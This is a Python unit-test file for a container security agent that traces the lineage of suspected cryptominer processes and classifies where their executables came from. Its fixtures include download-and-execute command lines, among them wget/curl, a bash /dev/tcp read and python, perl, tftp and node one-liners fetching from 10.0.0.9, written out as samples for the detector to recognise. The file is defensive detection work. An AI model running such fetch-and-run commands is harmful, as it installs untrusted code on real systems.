"""Who started a reported process: entry (Init / Exec / Unknown), lineage and executable origin.

Each tree is written in /proc's own formats (``proc_tree``) and read by the real ``ProcFS``.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from minerguard.api.investigation import Entry, ExecutableOrigin
from node_agent.counters import Counters
from node_agent.judge.ancestry import TICK_NS, Investigator, executable_origin, fetches
from node_agent.judge.lineage import Lineage, Record
from node_agent.kernel import ancestry
from node_agent.kernel.cgroups import CgroupReader
from node_agent.kernel.procfs import CLOCK_TICKS, ProcFS
from node_agent.records import Finding
from tests.unit.node_agent.proc_tree import (
    BOOT_TIME,
    HOST_CGROUP,
    HOST_NS,
    P,
    container_cgroup,
    write_tree,
)

POD = "0f6c1d2e-3b4a-4c5d-8e9f-a0b1c2d3e4f5"
APP = container_cgroup(POD, "a1" * 32)
SIDECAR = container_cgroup(POD, "c3" * 32)
APP_NS = 4026532500

HOST = [
    P(1, 0, ("/sbin/init",), "/usr/lib/systemd/systemd", (1,), "/init.scope"),
    P(500, 1, ("/usr/bin/containerd-shim-runc-v2", "-id", "a1"), "/usr/bin/containerd-shim"),
]
INIT = P(510, 500, ("/bin/sh", "/entrypoint.sh"), "/bin/busybox", (510, 1), APP, APP_NS, 2000)


def _in_app(pid: int, ppid: int, nspid: int, *argv: str, exe: str = "/bin/busybox") -> P:
    return P(pid, ppid, argv, exe, (pid, nspid), APP, APP_NS, 3000 + pid)


def investigator(
    tmp_path: Path, processes: list[P], lineage: Lineage | None = None
) -> Investigator:
    cgroups = tmp_path / "cgroup"
    proc = write_tree(tmp_path, processes, cgroups)
    return Investigator(
        ProcFS(proc),
        lineage if lineage is not None else Lineage(),
        Counters(),
        cgroups=CgroupReader(cgroups),
    )


def test_a_process_started_from_the_containers_init_enters_by_init(tmp_path: Path) -> None:
    miner = _in_app(520, 510, 5, "/opt/xmrig", "-o", "pool:3333", exe="/opt/xmrig")
    found = investigator(tmp_path, [*HOST, INIT, miner]).describe(520)
    assert found is not None
    assert (found.entry, found.why) == (Entry.INIT, "")
    (link,) = found.lineage
    assert (link.pid, link.executable, link.command_line) == (
        510,
        "/bin/busybox",
        "/bin/sh /entrypoint.sh",
    )
    assert link.started_at == BOOT_TIME + 2000 / CLOCK_TICKS


def test_a_process_under_an_exec_session_enters_by_exec_and_names_its_root(
    tmp_path: Path,
) -> None:
    shell = _in_app(530, 500, 7, "sh", "-c", "wget -O /tmp/x http://10.0.0.9/x; /tmp/x")
    miner = _in_app(531, 530, 8, "/tmp/x", exe="/tmp/x")
    found = investigator(tmp_path, [*HOST, INIT, shell, miner]).describe(531)
    assert found is not None
    assert found.entry is Entry.EXEC
    assert [link.pid for link in found.lineage] == [530], "parent first, up to the exec'd root"
    assert found.lineage[0].command_line == "sh -c wget -O /tmp/x http://10.0.0.9/x; /tmp/x"


def test_an_exec_into_a_pod_sharing_its_pid_namespace_is_unknown_not_exec(
    tmp_path: Path,
) -> None:
    # shareProcessNamespace: the pause process (another container) is the namespace's init.
    pause = P(505, 500, ("/pause",), "/pause", (505, 1), SIDECAR, APP_NS)
    app = _in_app(510, 500, 2, "/bin/sh", "/entrypoint.sh")
    miner = _in_app(520, 510, 5, "/opt/xmrig", exe="/opt/xmrig")
    found = investigator(tmp_path, [*HOST, pause, app, miner]).describe(520)
    assert found is not None
    assert found.entry is Entry.UNKNOWN
    assert "shared" in found.why


def test_an_orphan_whose_exec_d_shell_the_agent_never_recorded_is_unknown_not_init(
    tmp_path: Path,
) -> None:
    # kubectl exec pod -- sh -c './miner &': the shell exits, the kernel hands the miner to
    # the container's init, and /proc alone now reads "Init". The agent saw the miner's fork
    # but not the shell's (it started later): the trail stops at an exited pid.
    lineage = Lineage()
    lineage.fork(child=531, parent=530)
    lineage.exit(530)
    miner = _in_app(531, 510, 8, "/tmp/x", exe="/tmp/x")
    found = investigator(tmp_path, [*HOST, INIT, miner], lineage).describe(531)
    assert found is not None
    assert found.entry is Entry.UNKNOWN
    assert "orphaned" in found.why
    assert [link.pid for link in found.lineage] == [510]


def _at(pid: int) -> int:
    """The FORK timestamp (monotonic ns) of ``_in_app(pid, ...)``: its start ticks' instant."""
    return int((3000 + pid) * TICK_NS)


def _app_key(tmp_path: Path) -> str:
    """The attribution key of the APP container, as the exec layer records it."""
    return ancestry.read_ancestor(ProcFS(tmp_path / "proc"), 510).container


NOHUP = "sh -c nohup /tmp/x -o pool:3333 &"


def _exec_orphan(lineage: Lineage, *, read: bool, key: str = "") -> None:
    """The shim forks the exec'd shell 530, which forks the miner 531 and exits at once."""
    lineage.fork(child=530, parent=500, at_ns=_at(530))
    if read:
        lineage.seen(530, container=key, start_ticks=3530, command_line=NOHUP, executable="/bin/sh")
    lineage.fork(child=531, parent=530, at_ns=_at(531))
    lineage.exit(530, at_ns=_at(531) + 1000)


def test_an_orphan_of_an_exec_session_reports_exec_and_the_exited_shell(tmp_path: Path) -> None:
    lineage = Lineage()
    miner = _in_app(531, 510, 8, "/tmp/x", exe="/tmp/x")
    finder = investigator(tmp_path, [*HOST, INIT, miner], lineage)
    _exec_orphan(lineage, read=True, key=_app_key(tmp_path))
    found = finder.describe(531)
    assert found is not None
    assert (found.entry, found.why) == (Entry.EXEC, "")
    (shell,) = found.lineage
    assert (shell.pid, shell.command_line, shell.executable, shell.exited) == (
        530,
        NOHUP,
        "/bin/sh",
        True,
    )
    assert shell.started_at == BOOT_TIME + 3530 / CLOCK_TICKS


def test_an_exited_shell_the_exec_layer_never_read_still_makes_it_exec(tmp_path: Path) -> None:
    # `sh -c './x &'` lives well under the exec layer's 10 ms settle: no command line, but its
    # fork from the shim and its exit are events, and that is enough to say Exec.
    lineage = Lineage()
    _exec_orphan(lineage, read=False)
    miner = _in_app(531, 510, 8, "/tmp/x", exe="/tmp/x")
    found = investigator(tmp_path, [*HOST, INIT, miner], lineage).describe(531)
    assert found is not None
    assert found.entry is Entry.EXEC
    (shell,) = found.lineage
    assert (shell.pid, shell.command_line, shell.exited) == (530, None, True)
    assert shell.started_at == BOOT_TIME + _at(530) / 1e9


def test_a_chain_through_two_exited_ancestors_reaches_the_exec_d_root(tmp_path: Path) -> None:
    # sh -c '(./x &)': the exec'd shell 530 forks a subshell 531, which forks the miner 532;
    # both shells exit, the miner is adopted by the init.
    lineage = Lineage()
    lineage.fork(child=530, parent=500, at_ns=_at(530))
    lineage.fork(child=531, parent=530, at_ns=_at(531))
    lineage.fork(child=532, parent=531, at_ns=_at(532))
    lineage.exit(531, at_ns=_at(532) + 1)
    lineage.exit(530, at_ns=_at(532) + 2)
    miner = _in_app(532, 510, 9, "/tmp/x", exe="/tmp/x")
    found = investigator(tmp_path, [*HOST, INIT, miner], lineage).describe(532)
    assert found is not None
    assert found.entry is Entry.EXEC
    assert [(link.pid, link.exited) for link in found.lineage] == [(531, True), (530, True)]


def test_a_daemon_the_init_double_forked_stays_init_with_the_exited_middle(
    tmp_path: Path,
) -> None:
    lineage = Lineage()
    lineage.fork(child=530, parent=510, at_ns=_at(530))
    lineage.fork(child=531, parent=530, at_ns=_at(531))
    lineage.exit(530, at_ns=_at(531) + 1)
    miner = _in_app(531, 510, 8, "/opt/daemon", exe="/opt/daemon")
    found = investigator(tmp_path, [*HOST, INIT, miner], lineage).describe(531)
    assert found is not None
    assert found.entry is Entry.INIT
    assert [(link.pid, link.exited) for link in found.lineage] == [(530, True), (510, None)]


def test_an_orphan_adopted_by_a_subreaper_shows_the_exited_parent_between(
    tmp_path: Path,
) -> None:
    # A supervisor (PR_SET_CHILD_SUBREAPER) adopts what its descendants leave behind.
    lineage = Lineage()
    supervisor = _in_app(520, 510, 3, "/usr/bin/supervisord")
    lineage.fork(child=530, parent=520, at_ns=_at(530))
    lineage.fork(child=531, parent=530, at_ns=_at(531))
    lineage.exit(530, at_ns=_at(531) + 1)
    miner = _in_app(531, 520, 8, "/tmp/x", exe="/tmp/x")
    found = investigator(tmp_path, [*HOST, INIT, supervisor, miner], lineage).describe(531)
    assert found is not None
    assert found.entry is Entry.INIT
    assert [(link.pid, link.exited) for link in found.lineage] == [
        (530, True),
        (520, None),
        (510, None),
    ]


def test_an_exited_shell_whose_pid_was_reused_is_still_found_by_its_record(
    tmp_path: Path,
) -> None:
    lineage = Lineage()
    _exec_orphan(lineage, read=False)
    lineage.fork(child=530, parent=510, at_ns=_at(531) + 5000)  # pid 530 again, a new process
    miner = _in_app(531, 510, 8, "/tmp/x", exe="/tmp/x")
    found = investigator(tmp_path, [*HOST, INIT, miner], lineage).describe(531)
    assert found is not None
    assert found.entry is Entry.EXEC
    assert [(link.pid, link.exited) for link in found.lineage] == [(530, True)]


def test_a_record_about_an_earlier_process_of_the_same_pid_is_not_followed(
    tmp_path: Path,
) -> None:
    # The fork of the live 531 was lost: the record is about an earlier 531 (other start).
    lineage = Lineage()
    _exec_orphan(lineage, read=False)
    lineage.seen(531, container="c", start_ticks=17)
    miner = _in_app(531, 510, 8, "/tmp/x", exe="/tmp/x")
    found = investigator(tmp_path, [*HOST, INIT, miner], lineage).describe(531)
    assert found is not None
    assert found.entry is Entry.UNKNOWN
    assert [link.pid for link in found.lineage] == [510]


def test_a_live_ancestor_started_after_the_fork_it_is_said_to_have_made_is_not_believed(
    tmp_path: Path,
) -> None:
    # The exited shell's parent pid now belongs to a process that started later (reused).
    lineage = Lineage()
    lineage.fork(child=530, parent=777, at_ns=_at(530))
    lineage.fork(child=531, parent=530, at_ns=_at(531))
    lineage.exit(530, at_ns=_at(531) + 1)
    late = P(777, 1, ("/usr/bin/sshd",), "/usr/sbin/sshd", start=9000)
    miner = _in_app(531, 510, 8, "/tmp/x", exe="/tmp/x")
    found = investigator(tmp_path, [*HOST, INIT, late, miner], lineage).describe(531)
    assert found is not None
    assert found.entry is Entry.UNKNOWN
    assert "orphaned" in found.why


def test_an_exited_shell_forgotten_after_its_time_leaves_the_answer_unknown(
    tmp_path: Path,
) -> None:
    now = [0.0]
    lineage = Lineage(exited_ttl=600, clock=lambda: now[0])
    _exec_orphan(lineage, read=False)
    miner = _in_app(531, 510, 8, "/tmp/x", exe="/tmp/x")
    finder = investigator(tmp_path, [*HOST, INIT, miner], lineage)
    assert (d := finder.describe(531)) is not None
    assert d.entry is Entry.EXEC
    now[0] = 601
    found = finder.describe(531)
    assert found is not None
    assert found.entry is Entry.UNKNOWN
    assert "orphaned" in found.why


def test_an_exited_shell_evicted_by_the_bound_leaves_the_answer_unknown(tmp_path: Path) -> None:
    lineage = Lineage(exited_capacity=1)
    _exec_orphan(lineage, read=False)
    lineage.fork(child=540, parent=510, at_ns=_at(540))
    lineage.fork(child=541, parent=540, at_ns=_at(541))
    lineage.exit(540, at_ns=_at(541) + 1)  # another orphaning exit pushes the shell out
    assert lineage.exited_evicted == 1
    miner = _in_app(531, 510, 8, "/tmp/x", exe="/tmp/x")
    found = investigator(tmp_path, [*HOST, INIT, miner], lineage).describe(531)
    assert found is not None
    assert found.entry is Entry.UNKNOWN


def test_an_exited_fetching_shell_is_named_as_the_downloader() -> None:
    fetched = Record(
        1, 530, 500, None, command_line="sh -c curl -o /tmp/x http://10.0.0.9/x && /tmp/x &"
    )
    assert executable_origin(True, [fetched]) == (
        ExecutableOrigin.DOWNLOADED,
        fetched.command_line,
    )
    unread = Record(2, 531, 530, 1)
    assert executable_origin(True, [unread]) == (ExecutableOrigin.WRITTEN_AFTER_START, None)


def test_a_child_of_init_the_agent_saw_forked_stays_init(tmp_path: Path) -> None:
    lineage = Lineage()
    lineage.fork(child=520, parent=510)
    miner = _in_app(520, 510, 5, "/opt/xmrig", exe="/opt/xmrig")
    found = investigator(tmp_path, [*HOST, INIT, miner], lineage).describe(520)
    assert found is not None
    assert found.entry is Entry.INIT


def test_an_ancestor_vanishing_mid_walk_keeps_what_was_read_and_says_unknown(
    tmp_path: Path,
) -> None:
    shell = _in_app(530, 529, 7, "sh", "-c", "./x")  # 529 exited before it was read
    miner = _in_app(531, 530, 8, "/tmp/x", exe="/tmp/x")
    found = investigator(tmp_path, [*HOST, INIT, shell, miner]).describe(531)
    assert found is not None
    assert [link.pid for link in found.lineage] == [530]
    assert found.entry is Entry.UNKNOWN
    assert "cut" in found.why


def test_a_vanished_process_is_no_ancestry_at_all(tmp_path: Path) -> None:
    assert investigator(tmp_path, [*HOST, INIT]).describe(999) is None


def test_a_pid_reused_since_the_finding_is_not_described(tmp_path: Path) -> None:
    miner = _in_app(520, 510, 5, "/opt/xmrig", exe="/opt/xmrig")
    found = investigator(tmp_path, [*HOST, INIT, miner]).describe(520, start_ticks=1)
    assert found is None


def test_the_walk_is_bounded_in_depth_and_command_length(tmp_path: Path) -> None:
    long_argv = ("sh", "-c", "x" * 5000)
    chain = [_in_app(600, 510, 100, *long_argv)]
    chain += [_in_app(600 + i, 600 + i - 1, 100 + i, *long_argv) for i in range(1, 40)]
    found = investigator(tmp_path, [*HOST, INIT, *chain]).describe(639)
    assert found is not None
    assert len(found.lineage) == ancestry.MAX_LINKS
    assert [link.pid for link in found.lineage][:2] == [638, 637]
    assert all(len(link.command_line or "") <= ancestry.COMMAND_LIMIT for link in found.lineage)
    assert found.entry is Entry.UNKNOWN


def test_a_process_in_the_hosts_pid_namespace_is_unknown(tmp_path: Path) -> None:
    # hostPID: NSpid has one field, the namespace's pid 1 is the node's init.
    shell = P(530, 500, ("sh",), "/bin/sh", (530,), APP, HOST_NS)
    miner = P(531, 530, ("/tmp/x",), "/tmp/x", (531,), APP, HOST_NS)
    found = investigator(tmp_path, [*HOST, shell, miner]).describe(531)
    assert found is not None
    assert found.entry is Entry.UNKNOWN
    assert "host's pid namespace" in found.why


def test_a_nested_pid_namespace_inside_the_container_does_not_pass_for_init(
    tmp_path: Path,
) -> None:
    # exec'd shell runs `unshare -pf ./miner`: the miner is pid 1 of its own namespace.
    shell = _in_app(530, 500, 7, "sh")
    unshare = _in_app(531, 530, 8, "unshare", "-pf", "/tmp/x")
    miner = P(532, 531, ("/tmp/x",), "/tmp/x", (532, 9, 1), APP, 4026532999)
    found = investigator(tmp_path, [*HOST, INIT, shell, unshare, miner]).describe(532)
    assert found is not None
    assert found.entry is Entry.EXEC
    assert [link.pid for link in found.lineage] == [531, 530]


def test_host_findings_and_findings_without_a_process_are_left_alone(tmp_path: Path) -> None:
    finder = investigator(tmp_path, [*HOST, INIT])
    host = Finding("Exec", 1.0, (), "p", "Enforce", 0.0, HOST_CGROUP, pid=500)
    no_pid = Finding("Network", 1.0, (), "p", "Enforce", 0.0, APP, container_id="a1" * 32)
    assert finder.attach(host) is host
    assert finder.attach(no_pid) is no_pid


@pytest.mark.parametrize(
    "command_line",
    [
        "curl -fsSL http://10.0.0.9/x -o /tmp/x",
        "/usr/bin/wget -q http://10.0.0.9/x",
        "busybox wget http://10.0.0.9/x",
        "sh -c cd /tmp;wget http://10.0.0.9/x&&chmod +x x&&./x",
        "bash -c exec 3<>/dev/tcp/10.0.0.9/80; cat <&3 > /tmp/x",
        "python3 -c import urllib.request as u; u.urlretrieve('http://10.0.0.9/x', '/tmp/x')",
        "perl -MLWP::Simple -e getstore('http://10.0.0.9/x','/tmp/x')",
        "tftp -g -r x 10.0.0.9",
        "scp user@10.0.0.9:x /tmp/x",
        "node -e require('https').get('https://10.0.0.9/x')",
    ],
)
def test_a_fetch_is_recognised_on_a_command_line(command_line: str) -> None:
    assert fetches(command_line)


@pytest.mark.parametrize(
    "command_line",
    [
        "/bin/sh /entrypoint.sh",
        "python3 app.py --port 8080",
        "nginx -g daemon off;",
        "/usr/local/bin/curlish --serve",
        "perl script.pl",
        "[kworker/0:1]",
    ],
)
def test_ordinary_command_lines_are_not_fetches(command_line: str) -> None:
    assert not fetches(command_line)


def _ancestor(pid: int, command_line: str) -> ancestry.Ancestor:
    return ancestry.Ancestor(pid, 1, 0, (pid, 2), None, "c", None, command_line)


def test_the_executable_origin_follows_the_overlay_and_the_nearest_fetching_ancestor() -> None:
    fetcher = _ancestor(530, "sh -c wget http://10.0.0.9/x; ./x")
    shell = _ancestor(529, "sh")
    assert executable_origin(None, [fetcher]) == (ExecutableOrigin.UNKNOWN, None)
    assert executable_origin(False, [fetcher]) == (ExecutableOrigin.IMAGE, None)
    assert executable_origin(True, [shell]) == (ExecutableOrigin.WRITTEN_AFTER_START, None)
    assert executable_origin(True, [shell, fetcher]) == (
        ExecutableOrigin.DOWNLOADED,
        fetcher.command_line,
    )


def test_a_storm_of_findings_reads_a_bounded_number_of_ancestries(tmp_path: Path) -> None:
    proc = write_tree(tmp_path, [*HOST, INIT, _in_app(520, 510, 5, "/opt/xmrig")])
    counters = Counters()
    now = [100.0]
    finder = Investigator(ProcFS(proc), Lineage(), counters, per_second=3, clock=lambda: now[0])
    finding = Finding("Exec", 1.0, (), "p", "Enforce", 0.0, APP, container_id="a1" * 32, pid=520)
    described = [finder.attach(finding).ancestry is not None for _ in range(5)]
    now[0] += 1
    assert described == [True, True, True, False, False]
    assert finder.attach(finding).ancestry is not None, "the next second has a new budget"
    assert counters.get("ancestry_skipped") == 2


def test_the_init_re_parented_outside_the_container_is_not_traced(tmp_path: Path) -> None:
    # `runc run -d`: runc forked the init and exited; the init now hangs under the shim.
    lineage = Lineage()
    lineage.fork(child=510, parent=490, at_ns=int(2000 * TICK_NS))
    lineage.fork(child=520, parent=510, at_ns=_at(520))
    lineage.exit(490, at_ns=_at(520))
    miner = _in_app(520, 510, 5, "/opt/xmrig", exe="/opt/xmrig")
    found = investigator(tmp_path, [*HOST, INIT, miner], lineage).describe(520)
    assert found is not None
    assert (found.entry, [link.pid for link in found.lineage]) == (Entry.INIT, [510])
